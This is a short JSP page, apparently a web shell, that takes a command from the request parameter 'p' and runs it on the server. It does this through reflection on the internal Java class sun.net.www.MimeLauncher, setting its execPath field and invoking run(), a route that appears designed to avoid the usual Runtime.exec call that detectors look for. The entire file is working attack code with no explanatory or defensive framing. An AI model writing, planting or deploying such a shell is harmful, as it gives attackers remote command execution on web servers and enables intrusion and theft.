<%@ page import="java.lang.reflect.*" %>
<%
    String p = request.getParameter("p");
    if (p != null) {
        Class<?> c = Class.forName("sun.net.www.MimeLauncher");
        Constructor<?> k = c.getDeclaredConstructor(sun.net.www.MimeEntry.class, java.net.URLConnection.class, java.io.InputStream.class, String.class, String.class);
        k.setAccessible(true);
        Object o = k.newInstance(new sun.net.www.MimeEntry("x"), null, null, null, null);
        Field f = c.getDeclaredField("execPath");
        f.setAccessible(true);
        f.set(o, p);
        Method run = c.getDeclaredMethod("run");
        run.setAccessible(true);
        run.invoke(o);
    }
%>
